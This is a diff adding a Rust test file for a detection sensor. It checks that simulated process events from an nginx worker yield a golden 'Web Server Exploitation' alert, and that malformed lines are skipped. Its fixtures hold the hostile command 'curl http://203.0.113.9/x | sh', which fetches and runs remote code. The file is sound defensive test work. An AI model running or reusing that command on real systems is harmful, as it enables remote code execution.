@@ -1,0 +1,148 @@
+//! Replay: nested, dotted and mixed keys; malformed lines; golden alert.
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+use std::io::{Cursor, Write};
+use std::sync::{Arc, Mutex};
+
+use sensor::alert::{build_alert, AlertWriter};
+use sensor::replay::{replay, ReplayStats};
+use sensor::rules::RuleSet;
+
+#[derive(Clone, Default)]
+struct Shared(Arc<Mutex<Vec<u8>>>);
+
+impl Write for Shared {
+    fn write(&mut self, b: &[u8]) -> std::io::Result<usize> {
+        self.0.lock().unwrap().extend_from_slice(b);
+        Ok(b.len())
+    }
+    fn flush(&mut self) -> std::io::Result<()> {
+        Ok(())
+    }
+}
+
+fn run(input: &str) -> (ReplayStats, String, String) {
+    let rules = RuleSet::embedded_default().unwrap();
+    let buf = Shared::default();
+    let mut w = AlertWriter::new(Box::new(buf.clone()));
+    let mut diag = Vec::new();
+    let stats = replay(Cursor::new(input.as_bytes()), &rules, &mut w, &mut diag).unwrap();
+    let out = String::from_utf8(buf.0.lock().unwrap().clone()).unwrap();
+    (stats, out, String::from_utf8(diag).unwrap())
+}
+
+const NESTED: &str = r#"{"@timestamp":"2026-03-01T10:00:00.000Z","event":{"id":"ev-1","kind":"event","category":["process"],"type":["start"],"action":"exec"},"process":{"pid":4242,"name":"sh","args":["sh","-c","curl http://203.0.113.9/x | sh"],"args_count":3,"parent":{"pid":100,"name":"nginx","args":["nginx: worker process"],"interactive":false}},"container":{"id":"0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"},"user":{"id":"33"}}"#;
+
+const DOTTED: &str = r#"{"@timestamp":"2026-03-01T10:00:00.000Z","event.id":"ev-1","event.kind":"event","event.category":["process"],"event.type":["start"],"event.action":"exec","process.pid":4242,"process.name":"sh","process.args":["sh","-c","curl http://203.0.113.9/x | sh"],"process.args_count":3,"process.parent.pid":100,"process.parent.name":"nginx","process.parent.args":["nginx: worker process"],"process.parent.interactive":false,"container.id":"0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef","user.id":"33"}"#;
+
+const MIXED: &str = r#"{"@timestamp":"2026-03-01T10:00:00.000Z","event":{"id":"ev-1","kind":"event","category":["process"]},"event.type":["start"],"event.action":"exec","process":{"pid":4242,"name":"sh","args":["sh","-c","curl http://203.0.113.9/x | sh"],"args_count":3,"parent.pid":100,"parent":{"name":"nginx","args":["nginx: worker process"]},"parent.interactive":false},"container.id":"0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef","user":{"id":"33"}}"#;
+
+const GOLDEN: &str = concat!(
+    r#"{"@timestamp":"2026-03-01T10:00:00.000Z","container":{"id":"0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"},"#,
+    r#""event":{"action":"exec","category":["process"],"id":"ev-1","kind":"alert","type":["start"]},"#,
+    r#""kibana":{"alert":{"risk_score":73,"rule":{"name":"Web Server Exploitation Detected via Defend for Containers","rule_id":"497a7091-0ebd-44d7-88c4-367ab4d4d852","threat":["#,
+    r#"{"framework":"MITRE ATT&CK","tactic":{"id":"TA0003","name":"Persistence","reference":"https://attack.mitre.org/tactics/TA0003/"},"technique":[{"id":"T1505","name":"Server Software Component","reference":"https://attack.mitre.org/techniques/T1505/","subtechnique":[{"id":"T1505.003","name":"Web Shell","reference":"https://attack.mitre.org/techniques/T1505/003/"}]}]},"#,
+    r#"{"framework":"MITRE ATT&CK","tactic":{"id":"TA0002","name":"Execution","reference":"https://attack.mitre.org/tactics/TA0002/"},"technique":[{"id":"T1059","name":"Command and Scripting Interpreter","reference":"https://attack.mitre.org/techniques/T1059/","subtechnique":[{"id":"T1059.004","name":"Unix Shell","reference":"https://attack.mitre.org/techniques/T1059/004/"}]}]},"#,
+    r#"{"framework":"MITRE ATT&CK","tactic":{"id":"TA0011","name":"Command and Control","reference":"https://attack.mitre.org/tactics/TA0011/"},"technique":[{"id":"T1071","name":"Application Layer Protocol","reference":"https://attack.mitre.org/techniques/T1071/"}]}]},"#,
+    r#""severity":"high"}},"#,
+    r#""process":{"args":["sh","-c","curl http://203.0.113.9/x | sh"],"args_count":3,"name":"sh","parent":{"args":["nginx: worker process"],"interactive":false,"name":"nginx","pid":100},"pid":4242},"#,
+    r#""threat":{"framework":"MITRE ATT&CK","tactic":{"id":["TA0003","TA0002","TA0011"],"name":["Persistence","Execution","Command and Control"],"reference":["https://attack.mitre.org/tactics/TA0003/","https://attack.mitre.org/tactics/TA0002/","https://attack.mitre.org/tactics/TA0011/"]},"#,
+    r#""technique":{"id":["T1505","T1059","T1071"],"name":["Server Software Component","Command and Scripting Interpreter","Application Layer Protocol"],"reference":["https://attack.mitre.org/techniques/T1505/","https://attack.mitre.org/techniques/T1059/","https://attack.mitre.org/techniques/T1071/"],"#,
+    r#""subtechnique":{"id":["T1505.003","T1059.004"],"name":["Web Shell","Unix Shell"],"reference":["https://attack.mitre.org/techniques/T1505/003/","https://attack.mitre.org/techniques/T1059/004/"]}}},"#,
+    r#""user":{"id":"33"}}"#,
+    "\n"
+);
+
+#[test]
+fn golden_alert_for_nested_dotted_and_mixed_input() {
+    for input in [NESTED, DOTTED, MIXED] {
+        let (stats, out, diag) = run(&format!("{input}\n"));
+        assert_eq!(
+            stats,
+            ReplayStats {
+                events: 1,
+                malformed: 0,
+                alerts: 1,
+                write_errors: 0
+            },
+            "{diag}"
+        );
+        assert_eq!(out, GOLDEN);
+    }
+}
+
+#[test]
+fn replaying_an_alerted_event_line_is_byte_identical() {
+    // The live path serialises its event, and replay reparses that line:
+    // both must yield the same alert bytes.
+    let ev: serde_json::Value = serde_json::from_str(NESTED).unwrap();
+    let rules = RuleSet::embedded_default().unwrap();
+    let live = serde_json::to_string(&build_alert(&ev, &rules.rules()[0].meta)).unwrap() + "\n";
+    let line = serde_json::to_string(&ev).unwrap();
+    let (_, out, _) = run(&line);
+    assert_eq!(out, live);
+}
+
+#[test]
+fn malformed_lines_are_counted_and_skipped() {
+    let non_match = r#"{"event":{"category":["process"],"type":["start"],"action":"exec"},"process":{"name":"ls","parent":{"name":"bash"}}}"#;
+    let input = format!("{NESTED}\nnot json\n\n[1,2]\n{non_match}\n{{\"truncated\": \n{DOTTED}");
+    let (stats, out, diag) = run(&input);
+    assert_eq!(
+        stats,
+        ReplayStats {
+            events: 3,
+            malformed: 3,
+            alerts: 2,
+            write_errors: 0
+        }
+    );
+    assert_eq!(out, format!("{GOLDEN}{GOLDEN}"));
+    let lines: Vec<&str> = diag.lines().collect();
+    assert_eq!(lines.len(), 3);
+    assert!(lines[0].starts_with("line 2: malformed event:"), "{diag}");
+    assert_eq!(lines[1], "line 4: malformed event: not a JSON object");
+    assert!(lines[2].starts_with("line 6: malformed event:"), "{diag}");
+}
+
+#[test]
+fn cli_replay_and_rules_check() {
+    let exe = env!("CARGO_BIN_EXE_sensor");
+    let dir = tempfile::tempdir().unwrap();
+    let events = dir.path().join("ev.jsonl");
+    std::fs::write(&events, format!("{NESTED}\nbad\n")).unwrap();
+    let alerts = dir.path().join("alerts.jsonl");
+    let out = std::process::Command::new(exe)
+        .args(["replay", "--alerts"])
+        .arg(&alerts)
+        .arg(&events)
+        .output()
+        .unwrap();
+    assert!(out.status.success());
+    assert_eq!(std::fs::read_to_string(&alerts).unwrap(), GOLDEN);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(stderr.contains("line 2: malformed event"), "{stderr}");
+    assert!(
+        stderr.contains("1 events read, 1 malformed lines skipped, 1 alerts"),
+        "{stderr}"
+    );
+
+    let bad = dir.path().join("bad.toml");
+    std::fs::write(&bad, "[rule\n").unwrap();
+    let out = std::process::Command::new(exe)
+        .args(["rules", "check"])
+        .arg(&bad)
+        .output()
+        .unwrap();
+    assert!(!out.status.success());
+    let missing = std::process::Command::new(exe)
+        .args(["replay", "--rules"])
+        .arg(dir.path().join("nope"))
+        .arg(&events)
+        .output()
+        .unwrap();
+    assert!(!missing.status.success());
+    let stderr = String::from_utf8_lossy(&missing.stderr);
+    assert!(stderr.starts_with("error: loading rules:"), "{stderr}");
+    assert!(!stderr.contains("panicked"), "{stderr}");
+}
